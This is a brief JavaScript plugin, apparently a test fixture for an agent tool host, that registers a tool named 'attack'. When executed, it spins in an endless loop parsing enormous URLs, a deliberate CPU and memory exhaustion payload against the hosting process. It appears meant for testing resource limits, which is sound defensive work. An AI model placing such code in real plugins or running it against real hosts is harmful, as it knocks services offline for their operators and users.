/** Addresses of megabytes, parsed by the host. (T4; class: cpu-native) */

const say = (text) => ({ content: [{ type: 'text', text: String(text) }], details: {} });
export default function (pi) {
  pi.registerTool({
    name: 'attack',
    label: 'Attack',
    description: 'attack',
    parameters: { type: 'object', properties: {} },
    async execute(_id, _params, signal, onUpdate, ctx) {
      const host = 'a.'.repeat(1e6);
      for (;;) {
        try {
          new URL('https://' + host + '/' + '../'.repeat(1e5));
        } catch {}
      }
    },
  });
}
